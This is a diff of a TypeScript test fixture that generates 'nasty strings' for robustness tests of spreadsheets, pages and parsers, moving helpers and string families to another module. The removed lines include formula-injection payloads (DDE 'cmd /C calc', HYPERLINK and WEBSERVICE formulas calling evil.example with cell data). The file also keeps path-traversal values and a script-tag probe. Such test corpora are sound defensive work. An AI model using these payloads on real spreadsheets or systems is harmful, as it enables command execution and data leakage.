@@ -1,126 +1,12 @@
 // Texts that have broken spreadsheets, pages and parsers elsewhere: hundreds, made by rule from families, each with a name, so that a
 // failure says what kind of text it was. Used by the corpus test and by whoever wants to type them all.
 import { nastyStrings } from '../server/nasty-strings.ts'
+import { across, directions, emoji, formulas, hex, long, range, sign, unit, zalgo } from './nasty-signs.ts'
 
 export interface Family {
   readonly name: string
   readonly texts: readonly string[]
 }
-
-const range = (first: number, last: number): readonly number[] =>
-  Array.from({ length: last - first + 1 }, (_, n) => first + n)
-const sign = (code: number): string => String.fromCodePoint(code)
-/** Halves of signs too, which no code point is. */
-const unit = (...codes: readonly number[]): string => String.fromCharCode(...codes)
-const hex = (code: number): string => code.toString(16).padStart(4, '0')
-const across = (
-  some: readonly string[],
-  others: readonly string[],
-  join: (one: string, other: string) => string,
-): readonly string[] => some.flatMap((one) => others.map((other) => join(one, other)))
-
-const formulaSigns = ['=', '+', '-', '@', '|', '%', '＝', '＋', '－', '＠']
-const before = [
-  '',
-  ' ',
-  '\t',
-  '\r',
-  '\n',
-  '\u00a0',
-  '\u200b',
-  '\u3000',
-  '\ufeff',
-  "'",
-  '"',
-  '\u202e',
-  '\u00ad',
-]
-const formulas: readonly string[] = [
-  ...across(before, formulaSigns, (space, first) => `${space}${first}SUM(1+1)*cmd|' /C calc'!A0`),
-  '=HYPERLINK("http://evil.example/?"&A1,"klik")',
-  '=WEBSERVICE("http://evil.example")',
-  "='file:///etc/passwd'#$passwd.A1",
-  '=DDE("cmd";"/C calc";"!A0")',
-  '=IMPORTDATA("http://evil.example")',
-  '-2+3+cmd|" /C calc"!A0',
-  '+31 6 12345678',
-  '-5',
-  '@naam',
-  '=1',
-  '{=SUM(A1:A9)}',
-  '=A1:A9',
-]
-
-const bidi = [0x061c, 0x200e, 0x200f, ...range(0x202a, 0x202e), ...range(0x2066, 0x2069)]
-const directions: readonly string[] = [
-  ...bidi.flatMap((code) => [
-    `${sign(code)}voor ${hex(code)}`,
-    `mid${sign(code)}den`,
-    `na ${hex(code)}${sign(code)}`,
-    `عربي${sign(code)}123`,
-  ]),
-  `a${sign(0x202e).repeat(60)}b`,
-  `\u2066\u2067\u2068 open gelaten`,
-]
-
-const marks = ['\u0301', '\u0315', '\u0489', '\u0362', '\u064b', '\u0e49', '\u20dd']
-const zalgo: readonly string[] = [
-  ...across(
-    marks,
-    ['1', '2', '3', '4', '9', '40'],
-    (mark, high) => `za${mark.repeat(Number(high))}lgo ${high}`,
-  ),
-  [...'heel het woord'].map((letter) => letter + '\u0315\u0489\u0362\u0334'.repeat(4)).join(''),
-  marks.join('').repeat(20),
-]
-
-const people = ['👩', '👨', '🧑', '👵']
-const tones = ['', '🏻', '🏽', '🏿']
-const emoji: readonly string[] = [
-  ...across(people, tones, (who, tone) => `${who}${tone}\u200d🚒 aan zet`),
-  ...['👨‍👩‍👧‍👦', '👩‍❤️‍💋‍👨', '🏳️‍🌈', '🏴‍☠️', '🐻‍❄️', '❤️‍🔥', '🧑🏿‍🤝‍🧑🏻', '🚲', '🫱🏽‍🫲🏻'],
-  ...['🇧🇪', '🇳🇱🇫🇷', '🇹🇷', '🇧', '🇧🇪🇧', '🏴󠁧󠁢󠁥󠁮󠁧󠁿', '🏴󠁧󠁢', '\u{e0001}\u{e0067}tag'],
-  ...[...'0123456789#*'].map((key) => `${key}\ufe0f\u20e3 toets`),
-  ...['☎︎', '☎️', '©️', '\ufe0f los', '👍\ufe0e', '👩\u200d', '\u200d👩', '👨‍👩‍👧‍👦'.repeat(25)],
-]
-
-const longest = 280
-const long: readonly string[] = [
-  ...[
-    'w',
-    'Ğ',
-    'ş',
-    'ı',
-    'ß',
-    'م',
-    'ش',
-    'בּ',
-    '中',
-    '語',
-    'あ',
-    '한',
-    'ก',
-    'ན',
-    '🚲',
-    '𝕏',
-    'ﷺ',
-    '𒐫',
-    '﷽',
-    '—',
-    '_',
-    '.',
-  ].map((letter) => [...letter.repeat(longest)].slice(0, longest).join('')),
-  'Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft'.repeat(3),
-  'muvaffakiyetsizleştiricileştiriveremeyebileceklerimizdenmişsinizcesine'.repeat(4),
-  'فأسقيناكموه'.repeat(25),
-  '👨‍👩‍👧‍👦'.repeat(40),
-  'https://voorbeeld.be/'.padEnd(longest, 'a/b?c=d&'),
-  'een woord en nog een '.repeat(13),
-  'لا أحد ينظر إلى '.repeat(17),
-  `a${' '.repeat(270)}b`,
-  'te lang '.repeat(60),
-  'x'.repeat(longest + 1),
-]
 
 const markup: readonly string[] = [
   '<script>alert(1)</script>',
@@ -174,56 +60,56 @@ const tables: readonly string[] = [
 ]
 
 const names: readonly string[] = [
-  ...[
-    '__proto__',
-    'constructor',
-    'prototype',
-    'toString',
-    'valueOf',
-    'hasOwnProperty',
-    '__defineGetter__',
-    'then',
-  ],
-  ...[
-    'undefined',
-    'null',
-    'NaN',
-    'Infinity',
-    'true',
-    'FALSE',
-    '[object Object]',
-    '{}',
-    '[]',
-    '{"a":1}',
-    '\\u0000',
-  ],
-  ...[
-    '0',
-    '-0',
-    '007',
-    '1e5',
-    '1E400',
-    '0x1F',
-    '1,5',
-    '1/2',
-    '3-4',
-    '12-11-2026',
-    '2026-11-12T18:30',
-    '١٢٣',
-    '1'.repeat(40),
-  ],
-  ...[
-    '../../etc/passwd',
-    '..\\..\\boot.ini',
-    'C:\\CON',
-    '\\\\server\\deel',
-    'file:///etc/passwd',
-    '~',
-    '.',
-    '..',
-    '/',
-  ],
-  ...['CON', 'PRN', 'AUX', 'NUL', 'COM1', 'LPT9', 'con.txt', 'desktop.ini', 'a<b>c:d"e|f?g*h'],
+  '__proto__',
+  'constructor',
+  'prototype',
+  'toString',
+  'valueOf',
+  'hasOwnProperty',
+  '__defineGetter__',
+  'then',
+  'undefined',
+  'null',
+  'NaN',
+  'Infinity',
+  'true',
+  'FALSE',
+  '[object Object]',
+  '{}',
+  '[]',
+  '{"a":1}',
+  '\\u0000',
+  '0',
+  '-0',
+  '007',
+  '1e5',
+  '1E400',
+  '0x1F',
+  '1,5',
+  '1/2',
+  '3-4',
+  '12-11-2026',
+  '2026-11-12T18:30',
+  '١٢٣',
+  '1'.repeat(40),
+  '../../etc/passwd',
+  '..\\..\\boot.ini',
+  'C:\\CON',
+  '\\\\server\\deel',
+  'file:///etc/passwd',
+  '~',
+  '.',
+  '..',
+  '/',
+  'CON',
+  'PRN',
+  'AUX',
+  'NUL',
+  'COM1',
+  'LPT9',
+  'con.txt',
+  'desktop.ini',
+  'a<b>c:d"e|f?g*h',
 ]
 
 const blanks = [
@@ -233,7 +119,15 @@ const blanks = [
 const invisible: readonly string[] = [
   ...blanks.map((code) => `in${sign(code)}een ${hex(code)}`),
   ...blanks.map((code) => sign(code).repeat(3)),
-  ...['', ' ', '\n\n', '\t', '\u0301', '\u0301\u0302', '\ufe0f', '\u{e0100}', '\u{e0020}\u{e007f}'],
+  '',
+  ' ',
+  '\n\n',
+  '\t',
+  '\u0301',
+  '\u0301\u0302',
+  '\ufe0f',
+  '\u{e0100}',
+  '\u{e0020}\u{e007f}',
 ]
 
 const halves: readonly string[] = [
@@ -251,30 +145,34 @@ const halves: readonly string[] = [
 const odd: readonly string[] = [
   ...[0xfdd0, 0xfdef, 0xfffe, 0xffff, 0xfffd, 0x1fffe, 0x10ffff].map((code) => `geen${sign(code)}teken`),
   ...[0xe000, 0xf8ff, 0xf0000, 0x10fffd].map((code) => `eigen${sign(code)}teken`),
-  ...[
-    'ﬁ ﬂ ﬃ',
-    'ǅ ǆ',
-    'ẞß SS',
-    'İIıi',
-    'Å Å Å',
-    'Ω Ω',
-    'が か\u3099',
-    '각 각',
-    '𝐕𝐞𝐭 𝓼𝓬𝓱𝓾𝓲𝓷',
-    '①②③ Ⅳ ½',
-    '㍿ ㎞ ﷼',
-  ],
-  ...[
-    'عربي English 123 (ABC) ٤٥٦؟',
-    '12% (عشرة) 3–4',
-    'שלום abc 12',
-    'English (عربي',
-    'عربي) English',
-    '‎+32 2 123',
-    'א1ב2ג3',
-    'مـــــمـــــم',
-  ],
-  ...['தமிழ் க்ஷ', 'हिन्दी क्ष', 'ไทยไม่มีช่องว่าง', 'ខ្មែរ', 'ᠮᠣᠩᠭᠣᠯ', '𓀀𓂀', '⠃⠗⠁⠊', '🀄︎', '\u1100\u1161\u11a8'],
+  'ﬁ ﬂ ﬃ',
+  'ǅ ǆ',
+  'ẞß SS',
+  'İIıi',
+  'Å Å Å',
+  'Ω Ω',
+  'が か\u3099',
+  '각 각',
+  '𝐕𝐞𝐭 𝓼𝓬𝓱𝓾𝓲𝓷',
+  '①②③ Ⅳ ½',
+  '㍿ ㎞ ﷼',
+  'عربي English 123 (ABC) ٤٥٦؟',
+  '12% (عشرة) 3–4',
+  'שלום abc 12',
+  'English (عربي',
+  'عربي) English',
+  '‎+32 2 123',
+  'א1ב2ג3',
+  'مـــــمـــــم',
+  'தமிழ் க்ஷ',
+  'हिन्दी क्ष',
+  'ไทยไม่มีช่องว่าง',
+  'ខ្មែរ',
+  'ᠮᠣᠩᠭᠣᠯ',
+  '𓀀𓂀',
+  '⠃⠗⠁⠊',
+  '🀄︎',
+  '\u1100\u1161\u11a8',
 ]
 
 const controls = [...range(0x00, 0x1f), ...range(0x7f, 0x9f)]
